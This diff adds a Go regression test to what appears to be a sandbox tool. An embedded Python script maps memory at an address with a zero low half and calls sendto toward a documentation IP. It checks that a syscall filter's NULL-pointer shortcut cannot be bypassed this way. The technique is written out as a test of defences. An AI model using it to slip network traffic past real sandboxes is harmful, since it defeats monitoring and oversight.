@@ -275,3 +275,35 @@ for i in range(4):
 }
 
 func jsonUnmarshal(s string, v any) error { return json.Unmarshal([]byte(s), v) }
+
+// TestAttackSendtoAddressWithZeroLowHalf: the filter lets sendto through
+// unobserved only when its address pointer is NULL on all 64 bits; a
+// sockaddr placed at an address whose low 32 bits are zero must still be
+// seen and reported.
+func TestAttackSendtoAddressWithZeroLowHalf(t *testing.T) {
+	needJail(t)
+	code, out, stderr := invoke(t, "", "run", "--json", "--", "python3", "-c", `
+import ctypes, socket, struct
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+want = 0x7e0000000000
+p = libc.mmap(want, 4096, 3, 0x22 | 0x100000, -1, 0)  # MAP_PRIVATE|MAP_ANONYMOUS|MAP_FIXED_NOREPLACE
+assert p == want, hex(p or 0)
+sa = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(53), socket.inet_aton("203.0.113.9"))
+ctypes.memmove(p, sa, len(sa))
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+r = libc.sendto(s.fileno(), b"x", 1, 0, ctypes.c_void_p(p), 16)
+print(r, ctypes.get_errno())
+`)
+	var r netResult
+	if err := jsonUnmarshal(out, &r); err != nil {
+		t.Fatalf("exit %d: %v %s", code, err, stderr)
+	}
+	if r.Stdout != "-1 101\n" {
+		t.Fatalf("sendto: %q %s", r.Stdout, r.Stderr)
+	}
+	if len(r.Network) != 1 || r.Network[0].Via != "sendto" || r.Network[0].Host != "203.0.113.9" || r.Network[0].Port != 53 {
+		t.Fatalf("network %+v", r.Network)
+	}
+}
